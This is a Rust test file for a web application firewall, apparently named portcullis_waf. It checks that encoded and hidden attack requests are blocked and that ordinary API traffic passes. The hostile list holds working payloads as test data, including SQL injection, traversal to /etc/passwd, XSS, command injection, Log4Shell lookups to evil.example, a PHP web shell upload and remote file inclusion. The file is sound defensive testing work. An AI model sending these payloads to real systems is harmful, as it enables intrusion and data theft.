//! Our own hostile inputs (encoded, split, hidden in cookies, file names, invalid UTF-8)
//! must be blocked at PL1; realistic benign API traffic must not be.
#![allow(clippy::unwrap_used)]

mod support;

use portcullis_waf::Decision;
use support::{engine, Req};

fn multipart(parts: &[(&str, Option<&str>, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (name, filename, content) in parts {
        body.extend_from_slice(b"--b0undary\r\nContent-Disposition: form-data; name=\"");
        body.extend_from_slice(name.as_bytes());
        body.push(b'"');
        if let Some(f) = filename {
            body.extend_from_slice(b"; filename=\"");
            body.extend_from_slice(f.as_bytes());
            body.extend_from_slice(b"\"\r\nContent-Type: application/octet-stream");
        }
        body.extend_from_slice(b"\r\n\r\n");
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(b"--b0undary--\r\n");
    body
}

const MP: &str = "multipart/form-data; boundary=b0undary";

fn hostile() -> Vec<(&'static str, Req)> {
    vec![
        (
            "double-encoded SQLi",
            Req::new("GET", "/search?q=%2527%2520OR%25201%253D1--"),
        ),
        (
            "double-encoded traversal",
            Req::new(
                "GET",
                "/files?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            ),
        ),
        (
            "triple-encoded XSS",
            Req::new(
                "GET",
                "/p?x=%25253Cscript%25253Ealert(1)%25253C%25252Fscript%25253E",
            ),
        ),
        (
            "%u-encoded XSS",
            Req::new("GET", "/p?x=%u003cscript%u003ealert(1)%u003c/script%u003e"),
        ),
        (
            "full-width %u traversal",
            Req::new("GET", "/f?p=%uFF0E%uFF0E/%uFF0E%uFF0E/etc/shadow"),
        ),
        (
            "overlong UTF-8 traversal",
            Req::new(
                "GET",
                "/f?p=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            ),
        ),
        (
            "invalid UTF-8 before SQLi",
            Req::new(
                "GET",
                "/s?q=%ff%fe%27%20UNION%20SELECT%20password%20FROM%20users--",
            ),
        ),
        (
            "invalid UTF-8 in a form body",
            Req::new("POST", "/f").body(
                "application/x-www-form-urlencoded",
                b"q=\xff\xfe' or 1=1--".as_slice(),
            ),
        ),
        (
            "HTML entities in JSON",
            Req::new("POST", "/c")
                .json(r#"{"comment": "&lt;img src=x onerror=alert(document.cookie)&gt;"}"#),
        ),
        (
            "SQLi in a JSON key",
            Req::new("POST", "/c").json(r#"{"1' OR '1'='1' --": "x"}"#),
        ),
        (
            "XSS split across a JSON key and value",
            Req::new("POST", "/c").json(r#"{"<svg onload": "alert(1)>"}"#),
        ),
        (
            "SQLi split across two JSON values",
            Req::new("POST", "/c")
                .json(r#"{"a": "x' UNION SELECT", "b": "password FROM users WHERE 'a'='a"}"#),
        ),
        (
            "SQLi deep in JSON",
            Req::new("POST", "/c").json(
                r#"{"filter": {"and": [{"field": "id", "value": "1; DROP TABLE users--"}]}}"#,
            ),
        ),
        (
            "NoSQL operator key",
            Req::new("POST", "/login").json(r#"{"user": "admin", "password": {"$ne": null}}"#),
        ),
        (
            "Log4Shell in JSON",
            Req::new("POST", "/c").json(r#"{"name": "${jndi:ldap://evil.example/a}"}"#),
        ),
        (
            "XSS in a cookie value",
            Req::new("GET", "/")
                .header("Cookie", "session=abc123; theme=<script>alert(1)</script>"),
        ),
        (
            "SQLi in a cookie value",
            Req::new("GET", "/").header("Cookie", "uid=1%27%20or%20%271%27%3D%271"),
        ),
        (
            "traversal in a cookie",
            Req::new("GET", "/").header("Cookie", "lang=../../../../etc/passwd"),
        ),
        (
            "SQLi in a cookie name",
            Req::new("GET", "/").header("Cookie", "1' UNION SELECT 1,2--=x"),
        ),
        (
            "command injection in a header",
            Req::new("GET", "/").header("X-Forwarded-Host", "a.example; cat /etc/passwd"),
        ),
        (
            "Log4Shell in User-Agent",
            Req::new("GET", "/").header("User-Agent", "${${lower:j}ndi:ldap://x.example/a}"),
        ),
        (
            "scanner user agent",
            Req::new("GET", "/").header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ),
        (
            "traversal in a multipart file name",
            Req::new("POST", "/upload").body(
                MP,
                multipart(&[("file", Some("../../../etc/cron.d/x"), b"data")]),
            ),
        ),
        (
            "PHP upload",
            Req::new("POST", "/upload").body(
                MP,
                multipart(&[("file", Some("avatar.php"), b"<?php system($_GET['c']); ?>")]),
            ),
        ),
        (
            "XSS in a multipart file name",
            Req::new("POST", "/upload").body(
                MP,
                multipart(&[("file", Some("<svg onload=alert(1)>.png"), b"x")]),
            ),
        ),
        (
            "SQLi in a multipart field",
            Req::new("POST", "/upload").body(MP, multipart(&[("title", None, b"x' OR 1=1 -- ")])),
        ),
        (
            "command injection with quotes",
            Req::new("GET", "/ping?host=127.0.0.1;w'h'o\"am\"i"),
        ),
        (
            "command injection with $IFS",
            Req::new("GET", "/ping?host=127.0.0.1;cat${IFS}/etc/passwd"),
        ),
        (
            "Windows command",
            Req::new("GET", "/run?c=x%26%26cmd.exe%20/c%20whoami"),
        ),
        (
            "SQL comments instead of spaces",
            Req::new(
                "GET",
                "/s?q=1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
            ),
        ),
        (
            "MySQL versioned comment",
            Req::new("GET", "/s?q=1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
        ),
        (
            "MySQL multi-word keyword",
            Req::new("GET", "/s?q=1 INTO OUTFILE '/var/www/shell.php'"),
        ),
        (
            "time-based blind SQLi",
            Req::new("GET", "/s?id=1 AND SLEEP(5)"),
        ),
        (
            "Java deserialization",
            Req::new("POST", "/rpc").body(
                "text/plain",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
            ),
        ),
        (
            "SSI-free RFI",
            Req::new("GET", "/page?include=http://203.0.113.7/shell.txt?"),
        ),
        (
            "smuggling: CL and TE",
            Req::new("POST", "/")
                .header("Content-Length", "4")
                .header("Transfer-Encoding", "chunked"),
        ),
        (
            "PHP wrapper",
            Req::new(
                "GET",
                "/view?page=php://filter/convert.base64-encode/resource=index.php",
            ),
        ),
        (
            "XXE-style XML with script",
            Req::new("POST", "/xml").body(
                "application/xml",
                "<?xml version=\"1.0\"?><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>",
            ),
        ),
    ]
}

#[test]
fn hostile_inputs_are_blocked_at_pl1() {
    let engine = engine(1);
    let mut missed = Vec::new();
    for (name, req) in hostile() {
        let eval = req.evaluate(&engine);
        if engine.decision(&eval) != Decision::Block {
            missed.push(format!("{name}: {:?}", eval.findings));
        }
    }
    assert!(missed.is_empty(), "not blocked:\n{}", missed.join("\n"));
}

fn benign() -> Vec<Req> {
    let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";
    let jwt = "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwic2NvcGUiOiJyZWFkIHdyaXRlIn0.dGhpcyBpcyBub3QgYSByZWFsIHNpZ25hdHVyZQ";
    let get = |uri: &str| {
        Req::new("GET", uri)
            .header("User-Agent", ua)
            .header("Accept", "application/json, text/plain, */*")
            .header("Accept-Language", "en-US,en;q=0.9,de;q=0.8")
            .header("Authorization", jwt)
            .header("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; _ga=GA1.2.1234567890.1700000000")
            .header("Referer", "https://app.example.com/orders?page=2&sort=-created_at")
    };
    let post = |uri: &str, json: &str| {
        let mut r = get(uri).json(json);
        r.method = "POST".into();
        r
    };
    let reqs = vec![
        get("/api/v1/users?page=2&per_page=50&sort=-created_at"),
        get("/api/v1/users/8c6f1c1e-3b7a-4f6e-9b1a-2f6d3c4e5a6b"),
        get("/api/v1/search?q=how+to+select+the+right+plan+for+my+team"),
        get("/api/v1/search?q=union+station+to+the+airport"),
        get("/api/v1/search?q=drop+off+times+for+the+warehouse"),
        get("/api/v1/search?q=O%27Brien+%26+Sons+Ltd"),
        get("/api/v1/search?q=%22exact+phrase%22+-excluded"),
        get("/api/v1/products?category=shoes&price_min=10&price_max=99.99&in_stock=true"),
        get("/api/v1/events?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59Z&tz=Europe%2FBerlin"),
        get("/api/v1/geo?lat=52.5200&lng=13.4050&radius=5km"),
        get("/api/v1/redirect?next=%2Fdashboard%3Ftab%3Dbilling"),
        get("/api/v1/callback?state=af0ifjsldkj&code=SplxlOBeZQQYbYS6WxSbIA"),
        get("/api/v1/reports?fields=id,name,email,created_at&filter[status]=active"),
        get("/api/v1/files?path=documents%2F2024%2Finvoice-0042.pdf"),
        get("/api/v1/tags?name=c%2B%2B"),
        get("/api/v1/items?ids=1,2,3,4,5&expand=owner"),
        get("/api/v1/quotes?text=Be+yourself%3B+everyone+else+is+already+taken."),
        get("/api/v1/translate?text=%C2%BFD%C3%B3nde+est%C3%A1+la+biblioteca%3F&to=en"),
        get("/api/v1/emoji?text=%F0%9F%9A%80%20launch%20day%21"),
        get("/api/v1/math?expr=3+%2A+%284+%2B+5%29+%2F+2"),
        get("/healthz"),
        get("/api/v1/orders?status=shipped&updated_since=1700000000"),
        get("/api/v1/users?email=jane.doe%2Bnews%40example.com"),
        get("/api/v1/docs/getting-started/installation"),
        get("/.well-known/openid-configuration"),
        post(
            "/api/v1/users",
            r#"{"name": "Jane O'Neil", "email": "jane@example.com", "role": "admin"}"#,
        ),
        post(
            "/api/v1/comments",
            r#"{"body": "I think we should select the second option from the list, then update the docs and drop the old draft."}"#,
        ),
        post(
            "/api/v1/comments",
            r#"{"body": "Where do I order more? The union of both teams will decide -- probably by Friday."}"#,
        ),
        post(
            "/api/v1/comments",
            r#"{"body": "Great work!!! Thanks a lot :) See you at 5 o'clock; we'll grab a coffee."}"#,
        ),
        post(
            "/api/v1/comments",
            r#"{"body": "Can you delete my account and insert the new address? It's 42 Main St., Apt. #3."}"#,
        ),
        post(
            "/api/v1/tickets",
            r#"{"title": "Login fails", "description": "Steps: 1) open the app 2) enter email 3) press 'Sign in'. Expected: dashboard. Actual: spinner forever."}"#,
        ),
        post(
            "/api/v1/snippets",
            r#"{"language": "python", "description": "for item in items:\n    total += item.price * item.quantity\nprint(f\"Total: {total}\")"}"#,
        ),
        post(
            "/api/v1/snippets",
            r#"{"language": "rust", "description": "fn main() {\n    let v: Vec<i32> = (1..10).map(|x| x * 2).collect();\n    println!(\"{:?}\", v);\n}"}"#,
        ),
        post(
            "/api/v1/snippets",
            r#"{"language": "javascript", "description": "const total = items.reduce((sum, i) => sum + i.price, 0);\nconsole.log(`Total: ${total}`);"}"#,
        ),
        post(
            "/api/v1/snippets",
            r#"{"language": "go", "description": "func add(a int, b int) int {\n\treturn a + b\n}"}"#,
        ),
        post(
            "/api/v1/snippets",
            r#"{"language": "yaml", "description": "replicas: 3\nimage: nginx:1.25\nports:\n  - containerPort: 80"}"#,
        ),
        post(
            "/api/v1/notes",
            r#"{"text": "Meeting notes: we discussed the select committee, the update cadence, and where to drop off the samples. Action items below."}"#,
        ),
        post(
            "/api/v1/notes",
            r#"{"text": "Use the `order by` clause carefully; ask the DBA before changing indexes."}"#,
        ),
        post(
            "/api/v1/orders",
            r#"{"items": [{"sku": "A-100", "qty": 2, "price": 19.99}, {"sku": "B-200", "qty": 1, "price": 5}], "coupon": "SPRING-10%", "note": "Leave at the door, please."}"#,
        ),
        post(
            "/api/v1/profile",
            r#"{"bio": "Husband, father & engineer. I <3 open source. Views are my own.", "website": "https://jane.example.com/about?ref=profile"}"#,
        ),
        post(
            "/api/v1/profile",
            r#"{"address": {"street": "1600 Amphitheatre Pkwy", "city": "Mountain View", "zip": "94043"}, "phone": "+1 (650) 253-0000"}"#,
        ),
        post(
            "/api/v1/messages",
            r#"{"to": "team@example.com", "subject": "Re: Q3 plan", "body": "Hi all,\n\nplease review the plan by Monday. If you have questions, reply here.\n\nThanks,\nJane"}"#,
        ),
        post(
            "/api/v1/settings",
            r#"{"notifications": {"email": true, "sms": false}, "locale": "de-DE", "timezone": "Europe/Berlin"}"#,
        ),
        post(
            "/api/v1/webhooks",
            r#"{"url": "https://hooks.example.com/services/T000/B000/XXXX", "events": ["order.created", "order.updated"]}"#,
        ),
        post(
            "/api/v1/search",
            r#"{"query": "red shoes size 42", "filters": {"brand": ["acme", "globex"], "price": {"lt": 100}}}"#,
        ),
        post(
            "/api/v1/translations",
            r#"{"de": "Wähle die beste Option aus der Liste.", "ja": "リストから最適なオプションを選択してください。", "ru": "Выберите лучший вариант."}"#,
        ),
        post(
            "/api/v1/reviews",
            r#"{"rating": 4, "text": "Not bad at all -- shipping was fast, but the size runs small. Would order again (maybe one size up)."}"#,
        ),
        post(
            "/api/v1/base64",
            r#"{"avatar": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}"#,
        ),
        post(
            "/api/v1/feedback",
            r#"{"text": "The update from version 2.3 to 2.4 broke the export; select all + copy still works though."}"#,
        ),
        post(
            "/api/v1/recipes",
            r#"{"title": "Pancakes", "steps": ["Mix 2 cups flour & 1 tsp salt", "Add milk (about 1/2 cup)", "Cook 2-3 min per side"]}"#,
        ),
        Req::new("POST", "/api/v1/export")
            .header("User-Agent", ua)
            .body(
                "application/x-www-form-urlencoded",
                "format=csv&columns=name%2Cemail&delimiter=%3B",
            ),
        Req::new("POST", "/api/v1/login")
            .header("User-Agent", ua)
            .body(
                "application/x-www-form-urlencoded",
                "username=jane.doe&password=S3cure%21Pass%23word&remember=on",
            ),
        Req::new("POST", "/api/v1/upload")
            .header("User-Agent", ua)
            .body(
                MP,
                multipart(&[
                    ("title", None, b"Holiday photos 2024"),
                    (
                        "file",
                        Some("IMG_2024-08-01 beach.jpg"),
                        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00binary...",
                    ),
                ]),
            ),
        Req::new("POST", "/api/v1/upload")
            .header("User-Agent", ua)
            .body(
                MP,
                multipart(&[(
                    "file",
                    Some("quarterly report (final).pdf"),
                    b"%PDF-1.7 ...",
                )]),
            ),
        Req::new("PUT", "/api/v1/users/42")
            .header("User-Agent", ua)
            .json(r#"{"display_name": "Dr. Strange", "pronouns": "he/him"}"#),
        Req::new("DELETE", "/api/v1/sessions/current").header("User-Agent", ua),
        Req::new("PATCH", "/api/v1/orders/1001")
            .header("User-Agent", ua)
            .json(r#"[{"op": "replace", "path": "/status", "value": "cancelled"}]"#),
        Req::new("GET", "/api/v1/items")
            .header("User-Agent", "curl/8.5.0")
            .header("X-Forwarded-For", "203.0.113.5, 10.0.0.1"),
        Req::new("GET", "/api/v1/items")
            .header("User-Agent", "okhttp/4.12.0")
            .header("If-None-Match", "W/\"5e15153d-120f\""),
    ];
    reqs
}

#[test]
fn benign_api_traffic_is_not_blocked_at_pl1() {
    let engine = engine(1);
    let requests = benign();
    assert!(requests.len() >= 50, "{} benign requests", requests.len());
    let mut blocked = Vec::new();
    for req in &requests {
        let eval = req.evaluate(&engine);
        if engine.decision(&eval) != Decision::Allow {
            blocked.push(format!(
                "{} {}: {:?}",
                req.method,
                req.uri,
                eval.findings
                    .iter()
                    .map(|f| (f.rule_id, f.target.clone(), f.excerpt.clone()))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        blocked.is_empty(),
        "{} of {} benign requests blocked:\n{}",
        blocked.len(),
        requests.len(),
        blocked.join("\n")
    );
}

/// Values repeated in a body are inspected once when clean; an attack repeated under several
/// keys is still found under each of them, and an exclusion for one label leaves the others.
#[test]
fn repeated_values_are_each_inspected_when_they_match() {
    let items: Vec<String> = (0..20)
        .map(|i| format!(r#"{{"sku": "SKU-{i}", "title": "Blue shirt", "note": "1' OR '1'='1"}}"#))
        .collect();
    let body = format!(r#"{{"items": [{}]}}"#, items.join(", "));
    let req = Req::new("POST", "/api/orders").json(&body);
    let eval = req.evaluate(&engine(1));
    // Findings are capped for the audit line, the score is not: every one of the 20 notes
    // must have scored (libinjection alone gives 5 each).
    assert!(eval.score >= 20 * 5, "score {}", eval.score);
    let one = Req::new("POST", "/api/orders").json(&format!(r#"{{"items": [{}]}}"#, items[0]));
    let single = one.evaluate(&engine(1)).score;
    assert_eq!(
        eval.score,
        20 * single,
        "each repetition scores like the first"
    );
    let excluded = portcullis_waf::Engine::new(portcullis_waf::PolicyConfig {
        exclusions: vec![portcullis_waf::Exclusion {
            rule_ids: vec![942100],
            paths: vec![],
            targets: vec!["Json:$.items[0].note".into()],
        }],
        ..Default::default()
    })
    .expect("policy builds");
    let eval = req.evaluate(&excluded);
    assert!(!eval
        .findings
        .iter()
        .any(|f| f.rule_id == 942100 && f.target == "Json:$.items[0].note"));
    assert!(eval
        .findings
        .iter()
        .any(|f| f.rule_id == 942100 && f.target == "Json:$.items[1].note"));
}
